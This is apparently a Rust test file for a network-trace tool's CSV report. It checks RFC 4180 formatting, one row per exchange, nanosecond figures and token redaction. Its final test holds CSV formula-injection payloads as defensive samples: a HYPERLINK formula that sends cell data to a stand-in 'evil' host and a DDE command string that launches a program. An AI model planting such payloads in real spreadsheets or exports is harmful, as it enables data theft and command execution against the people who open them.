//! CSV by RFC 4180's grammar, and nothing in it for a spreadsheet to work out.

use std::collections::BTreeMap;

use tapline::report::{self, ReportOptions};
use tapline::trace::{Event, EventKind, ExchangeCause, ExchangeId, Trace};
use tapline::units::Moment;

use crate::scenario::Scenario;

/// RFC 4180's records, by a reader that refuses what is not in its grammar.
fn records(text: &str) -> Vec<Vec<String>> {
    let (mut rest, mut records, mut record) = (text, Vec::new(), Vec::new());
    while !rest.is_empty() {
        let (cell, after) = rest
            .strip_prefix('"')
            .map_or_else(|| bare(rest), within_quotes);
        record.push(cell);
        rest = if let Some(next) = after.strip_prefix(',') {
            next
        } else {
            records.push(std::mem::take(&mut record));
            after
                .strip_prefix("\r\n")
                .expect("a record ends with CR LF")
        };
    }
    records
}

fn bare(text: &str) -> (String, &str) {
    let (cell, after) = text.split_at(
        text.find([',', '\r', '\n'])
            .expect("a record ends with CR LF"),
    );
    assert!(!cell.contains('"'), "a quote outside of quotes: {text}");
    (cell.to_owned(), after)
}

fn within_quotes(text: &str) -> (String, &str) {
    let mut cell = String::new();
    let mut rest = text;
    loop {
        let end = rest.find('"').expect("a quote is closed");
        cell.push_str(&rest[..end]);
        rest = &rest[end + 1..];
        match rest.strip_prefix('"') {
            Some(after) => {
                cell.push('"');
                rest = after;
            }
            None => return (cell, rest),
        }
    }
}

#[test]
fn a_suite_has_a_row_for_each_endpoint() {
    let (text, count) = crate::crowd::written(report::Format::Csv);
    let records = records(&text);
    assert_eq!(records.len(), count + 1);
    assert!(
        records
            .iter()
            .all(|record| record.len() == records[0].len())
    );
    let names: Vec<_> = records.iter().map(|record| record[0].as_str()).collect();
    assert!(
        names[count - 1].starts_with("</td>")
            && !names
                .iter()
                .any(|name| name.starts_with('=') || name.contains('\u{1b}'))
    );
}

fn rows(trace: &Trace) -> Vec<BTreeMap<String, String>> {
    let mut records = records(&report::csv_report(trace, &ReportOptions::default())).into_iter();
    let names = records.next().unwrap();
    records
        .map(|record| {
            assert_eq!(record.len(), names.len());
            names.iter().cloned().zip(record).collect()
        })
        .collect()
}

#[test]
fn every_exchange_of_every_scenario_is_a_row_with_a_cell_for_each_column() {
    for scenario in Scenario::all() {
        let trace = scenario.trace();
        assert_eq!(
            rows(&trace).len(),
            trace.exchanges().len(),
            "{}",
            scenario.name
        );
    }
}

#[test]
fn figures_are_whole_nanoseconds_and_what_was_not_measured_is_empty() {
    let rows = rows(&Scenario::named("redirects").trace());
    let cells = |row: usize, names: &[&str]| {
        names
            .iter()
            .map(|name| rows[row][*name].clone())
            .collect::<Vec<_>>()
    };
    let names = [
        "transfer",
        "cause",
        "status",
        "dns_ns",
        "wire_dns_ns",
        "tls_ns",
        "reused_connection",
        "connection",
    ];
    assert_eq!(
        cells(0, &names),
        [
            "0", "asked", "302", "20400000", "20190000", "", "false", "0"
        ]
    );
    assert_eq!(
        cells(1, &names),
        ["0", "redirect", "307", "", "", "", "true", "0"]
    );
    assert!(rows[2]["url"].ends_with("access_token=REDACTED&page=2"));
    let failed = &self::rows(&Scenario::named("nxdomain").trace())[0];
    assert_eq!(
        (
            failed["failed_phase"].as_str(),
            failed["error_code"].as_str(),
            failed["status"].as_str()
        ),
        ("dns", "dns_no_such_name", "")
    );
}

#[test]
fn nothing_that_came_from_elsewhere_is_a_formula() {
    let url = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")\r\n@SUM(1)";
    let started = EventKind::ExchangeStarted {
        exchange: ExchangeId(0),
        cause: ExchangeCause::Asked,
        method: "+cmd|' /C calc'!A0".into(),
        url: url.into(),
    };
    let row = &rows(&Trace::from_events([Event {
        at: Moment(0),
        kind: started,
    }]))[0];
    assert_eq!(row["method"], "'+cmd|' /C calc'!A0");
    assert!(
        row["url"].starts_with("'=HYPERLINK(\"http://evil/?x=\""),
        "{}",
        row["url"]
    );
}
